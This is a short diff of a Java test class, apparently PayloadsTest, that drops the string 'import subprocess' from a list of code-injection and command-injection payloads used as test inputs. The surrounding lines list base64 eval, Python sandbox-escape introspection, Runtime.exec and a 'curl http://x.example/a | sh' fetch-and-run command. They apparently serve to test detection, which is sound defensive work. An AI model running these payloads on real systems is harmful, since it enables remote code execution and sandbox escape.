@@ -22,7 +22,6 @@ class PayloadsTest {
         "CODE|subprocess.check_output(['id'])",
         "CODE|eval(base64.b64decode(x))",
         "CODE|exec(\"print(1)\")",
-        "CODE|import subprocess",
         "CODE|().__class__.__bases__[0]",
         "CODE|java.lang.Runtime.getRuntime().exec(x)",
         "COMMAND|curl http://x.example/a `|` sh",
